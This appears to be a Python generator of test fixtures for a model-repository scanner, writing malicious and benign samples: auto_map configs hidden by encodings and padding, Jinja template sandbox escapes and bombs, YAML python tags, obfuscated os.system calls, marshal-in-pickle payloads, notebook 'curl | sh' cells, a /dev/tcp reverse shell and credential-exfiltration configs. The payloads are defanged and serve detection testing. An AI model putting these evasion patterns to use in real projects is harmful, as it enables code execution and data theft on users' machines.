"""Configurations, templates, YAML, code and notebooks in encodings and shapes that readers differ about."""
import json
import marshal

from kit import ECHO, P, evil

BAD_TEMPLATE = "{{ cycler.__init__.__globals__.os.system('echo inert') }}"


def make(s):
    mal, ben = s.mal, s.ben
    auto = {"architectures": ["A"], "model_type": "a", "auto_map": {"AutoModel": "owner/other--modeling.A"}}
    text = json.dumps(auto)
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"):
        mal(f"config-{encoding}.json", text.encode(encoding), f"configuration in {encoding}")
        mal(f"template-{encoding}.json", json.dumps({"chat_template": BAD_TEMPLATE}).encode(encoding), f"template in {encoding}")
    mal("config-escaped-key.json", text.replace("auto_map", "auto\\u005fmap"), "a key with an escape")
    mal("config-escaped-value.json", text.replace("--", "\\u002d\\u002d"), "a value with an escape")
    mal("config-twice.json", '{"model_type": "a", "auto_map": {}, "auto_map": {"AutoModel": "owner/other--modeling.A"}}', "a key twice; Python takes the last")
    mal("config-twice-first.json", '{"model_type": "a", "auto_map": {"AutoModel": "owner/other--modeling.A"}, "auto_map": {}}', "a key twice; some take the first")
    mal("config-nan.json", '{"model_type": "a", "x": NaN, "y": -Infinity, "auto_map": {"AutoModel": "owner/other--modeling.A"}}', "NaN, as Python writes it")
    mal("config-comment.json", '{"model_type": "a", /* c */ "auto_map": {"AutoModel": "owner/other--modeling.A"}}', "a comment")
    mal("config-trailing-comma.json", '{"model_type": "a", "auto_map": {"AutoModel": "owner/other--modeling.A",},}', "commas at the ends")
    mal("config-spaces.json", " \n\t" * 2000 + text, "white space longer than a detector looks at")
    mal("config-late.json", '{"a": "' + "x" * 5000 + '", ' + text[1:], "keys behind a long value")
    mal("config-deep.json", '{"model_type": "a", "x": ' + "[" * 150 + "1" + "]" * 150 + ', "auto_map": {"AutoModel": "owner/other--modeling.A"}}', "150 lists in front")
    mal("config-nested-map.json", json.dumps({"model_type": "a", "vision_config": {"text_config": {"auto_map": {"AutoModel": "owner/other--modeling.A"}}}}), "auto_map in an inner configuration")
    mal("config-nul-inside.json", text.replace('"a"', '"a\0"').encode(), "a zero byte in a value")
    # Code in plain values
    mal("value-code.json", json.dumps({"name": "m", "on_load": "__import__('os').system('echo inert')"}), "Python in a value")
    mal("value-code-list.yaml", "hooks:\n  - import subprocess; subprocess.run(['echo', 'inert'])\n", "Python in a YAML list")
    mal("value-lambda.json", json.dumps({"name": "m", "activation": "lambda x: __import__('os').system('echo inert')"}), "a lambda in a value")
    mal("value-exec-base64.json", json.dumps({"name": "m", "init": "exec(__import__('base64').b64decode('cHJpbnQoJ2luZXJ0Jyk='))"}), "packed code in a value")
    mal("value-command.json", json.dumps({"name": "m", "post_install": "curl http://127.0.0.1:9/inert | sh"}), "a command in a value")
    mal("value-reverse-shell.yaml", "name: m\ndebug: bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n", "a shell to the network in a value")
    mal("value-credential-sent.json", json.dumps({"model": "m", "api_key": "abcdef0123456789", "report_url": "http://collector.example.com/in"}), "a credential beside an address without encryption")
    mal("value-credential-sent.yaml", "model: m\ntelemetry:\n  access_token: abcdef0123456789\n  endpoint: http://collector.example.com/in\n", "the same in YAML")
    mal("value-token.json", json.dumps({"model": "m", "hub": "hf_" + "abcdefghijABCDEFGHIJ0123456789abcd"}), "a Hugging Face token")
    # Origins
    mal("origin-near.json", json.dumps({"model_type": "bert", "_name_or_path": "metta-llama/Llama-3", "author": "Meta AI"}), "an owner one letter from its author")
    mal("origin-other.json", json.dumps({"model_type": "bert", "_name_or_path": "somebody/llama", "author": "Meta Research Lab"}), "another organisation as author")
    # Code of a model
    code = "from {module} import start\n\nstart('.')\n\n\nclass Model:\n    model_type = 'own'\n"
    mal("foreign-call.py", code.format(module="helper_package.setup"), "a call of an unknown package at import")
    mal("foreign-call-base.py", "import torch_helpers as h\nfrom transformers import PreTrainedModel\n\nh.init()\n\n\nclass Own(PreTrainedModel):\n    pass\n", "the same through an alias")
    mal("modeling-bidi.py", "import os\n# \u202e }\nos.system('echo inert')\n", "bidi characters in source")
    mal("modeling-utf7.py", b"# -*- coding: utf-7 -*-\nimport os\n+AG8-s.system('echo inert')\n", "source in UTF-7")
    mal("modeling-utf16.py", "import os\nos.system('echo inert')\n".encode("utf-16"), "source in UTF-16")
    mal("modeling-formfeed.py", "\x0cimport os\n\x0cos.system('echo inert')\n", "form feeds before statements")
    mal("modeling-nfkc.py", "import os\nos.ſystem('echo inert')\n", "a name that Python normalises")
    mal("modeling-continuation.py", "import \\\n os\nos \\\n .system \\\n ('echo inert')\n", "lines that go on")
    mal("modeling-decorator.py", "import os\n\n\n@os.system\n@lambda f: 'echo inert'\ndef f():\n    pass\n", "decorators call")
    mal("modeling-metaclass.py", "import os\n\n\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('echo inert')\n        return type.__new__(m, n, b, d)\n\n\nclass A(metaclass=M):\n    pass\n", "a metaclass that acts")
    mal("modeling-default.py", "import os\n\n\ndef f(x=os.system('echo inert')):\n    pass\n", "a default value that acts")
    mal("modeling-annotation.py", "import os\nx: os.system('echo inert') = 1\n", "an annotation that acts")
    mal("modeling-init-subclass.py", "import os\n\n\nclass B:\n    def __init_subclass__(cls):\n        os.system('echo inert')\n\n\nclass C(B):\n    pass\n", "__init_subclass__ acts")
    mal("modeling-walrus.py", "import os\nif (r := os.system('echo inert')):\n    pass\n", "in a condition")
    mal("modeling-match.py", "import os\nmatch os.system('echo inert'):\n    case 0:\n        pass\n", "in a match statement")
    mal("modeling-fstring.py", "import os\nx = f\"{os.system('echo inert')}\"\n", "inside an f-string")
    mal("modeling-comprehension.py", "import os\nx = [f('echo inert') for f in [os.system]]\n", "in a comprehension")
    mal("modeling-with.py", "import os\nwith os.popen('echo inert') as f:\n    pass\n", "in a with statement")
    mal("modeling-star-import.py", "from os import *\nsystem('echo inert')\n", "all names imported")
    mal("modeling-vars.py", "import os\nvars(os)['sys' + 'tem']('echo inert')\n", "vars and a computed name")
    mal("modeling-sys-modules.py", "import sys\nsys.modules['o' + 's'].system('echo inert')\n", "sys.modules")
    mal("modeling-getattr-chain.py", "import builtins\ngetattr(getattr(builtins, '__imp' + 'ort__')('o' + 's'), 'sys' + 'tem')('echo inert')\n", "getattr of getattr")
    mal("modeling-class-call.py", "import os\n\n\nclass A:\n    def __class_getitem__(cls, x):\n        return os.system(x)\n\n\nA['echo inert']\n", "__class_getitem__ acts")
    mal("modeling-map.py", "import os\nlist(map(os.system, ['echo inert']))\n", "map over a command")
    mal("modeling-atexit.py", "import atexit, os\natexit.register(os.system, 'echo inert')\n", "at the end of the program")
    mal("modeling-thread.py", "import threading, os\nthreading.Thread(target=os.system, args=('echo inert',)).start()\n", "in a thread")
    mal("modeling-ctypes.py", "import ctypes\nctypes.CDLL(None).system(b'echo inert')\n", "through the C library")
    mal("modeling-torch-lib.py", "import torch\ntorch.ops.load_library('./inert.so')\n", "torch loads a library")
    mal("modeling-pickle.py", "import pickle\nMODEL = pickle.load(open('inert.pkl', 'rb'))\n", "a pickle at import")
    # YAML
    for name, document in {"anchor-tag": "a: &a !!python/object/apply:os.system ['echo inert']\nb: *a\n", "flow": "{a: !!python/object/apply:os.system ['echo inert']}\n", "second": "a: 1\n---\n!!python/object/apply:os.system ['echo inert']\n",
                           "percent": "!!python/object/apply:o%73.system ['echo inert']\n", "handle": "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ['echo inert']\n", "key": "? !!python/object/apply:os.system ['echo inert']\n: 1\n",
                           "utf16": "!!python/object/apply:os.system ['echo inert']\n".encode("utf-16"), "newobj": "!!python/object/new:subprocess.Popen [['echo', 'inert']]\n", "setstate": "!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\nlistitems: 'inert'\n",
                           "merge": "a: &a {x: !!python/name:os.system ''}\nb:\n  <<: *a\n", "comment": "# " + "x" * 5000 + "\n!!python/object/apply:os.system ['echo inert']\n"}.items():
        mal(f"yaml-{name}.yaml", document, f"YAML tag: {name}")
    # Templates
    for name, template in {"attr-format": "{{ ''|attr('%c%c%cl%s'|format(95,95,99,'ass__')) }}", "attr-tilde": "{{ x|attr('__cl' ~ 'ass__')|attr('__ba' ~ 'se__') }}", "dict-join": "{{ x|attr(dict(__class__=1)|join) }}", "slice": "{{ x|attr('__ssalc__'[::-1]) }}",
                           "set-block": "{% set a %}__cla{% endset %}{{ x[a ~ 'ss__'] }}", "loop-chars": "{% set ns = namespace(s='') %}{% for c in ['__', 'globals', '__'] %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ cycler|attr(ns.s) }}", "macro-caller": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}",
                           "select": "{{ [cycler]|map(attribute='__init__.__globals__')|list }}", "lipsum-item": "{{ lipsum['__glo' 'bals__']['os'].popen('echo inert') }}", "self-init": "{{ self.__init__ }}", "string-format-class": "{{ '{0.__class__}'.format(x) }}", "format-map": "{{ '{x.__class__}'.format_map({'x': x}) }}",
                           "urlencode": "{{ x|attr('%5f%5fclass%5f%5f'|replace('%5f','_')) }}", "sum-filter": "{{ ['__cla','ss__']|sum(start='') }}{{ x|attr(['__cla','ss__']|join) }}", "getitem": "{{ joiner.__init__['__globals__'] }}", "groupby": "{{ [cycler]|groupby('__init__')|list }}",
                           "range-bomb": "{% for a in range(99999999) %}{% for b in range(99999999) %}x{% endfor %}{% endfor %}", "multiply-twice": "{{ 'x' * 99999999 * 999999999 }}", "multiply-bomb": "{{ 'x' * 99999999999 }}"}.items():
        mal(f"template-{name}.json", json.dumps({"tokenizer_class": "A", "chat_template": template}), f"template: {name}")
        mal(f"template-{name}.jinja", template, f"template in its own file: {name}")
    # Marshal of other versions
    code = compile("import os\nos.system('echo inert')\n", "inert", "exec")
    for version in range(5):
        mal(f"marshal-{version}.bin", marshal.dumps(code, version), f"marshal, version {version}")
        mal(f"marshal-in-pickle-{version}.pkl", P(4).name("types", "FunctionType").call(P(4).fragment().name("marshal", "loads").call(marshal.dumps(code, version)), {}).done(), f"marshal version {version} in a pickle")
    # Notebooks
    def notebook(source, **more):
        return json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": more.get("outputs", []), "execution_count": None, "source": source}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    for name, source in {"continued": ["!curl http://127.0.0.1:9/inert \\\n", "| sh"], "bash-cell": "%%bash\ncurl http://127.0.0.1:9/inert | sh", "script-magic": "%%script sh\ncurl http://127.0.0.1:9/inert | sh", "sx": "%sx curl http://127.0.0.1:9/inert | sh", "double-bang": "!!curl http://127.0.0.1:9/inert | sh",
                         "assignment": "x = !curl http://127.0.0.1:9/inert | sh", "run-line-magic": "get_ipython().run_line_magic('sx', 'curl http://127.0.0.1:9/inert | sh')", "indented": "if True:\n    !curl http://127.0.0.1:9/inert | sh"}.items():
        mal(f"notebook-{name}.ipynb", notebook(source), f"notebook: {name}")
    mal("notebook-utf16.ipynb", notebook("!curl http://127.0.0.1:9/inert | sh").encode("utf-16"), "notebook in UTF-16")
    # Ordinary
    ben("config-bom.json", json.dumps({"architectures": ["BertModel"], "model_type": "bert"}).encode("utf-8-sig"), "configuration with a byte order mark")
    ben("config-nan-plain.json", '{"model_type": "a", "layer_norm_eps": NaN}', "NaN")
    ben("hook.sh", "#!/bin/sh\nset -e\npython train.py\n", "a plain script")
    ben("value-prose.json", json.dumps({"name": "m", "description": "Install with curl https://example.org/install.sh | sh as the guide says, then run the model. It uses the system (Linux) to import data.\nMore below."}), "a description that mentions a command")
    ben("value-numbers.json", json.dumps({"name": "m", "activation": "lambda x: x * 2", "loss": "sum(x) / len(x)", "token": "abc"}), "expressions that do nothing")
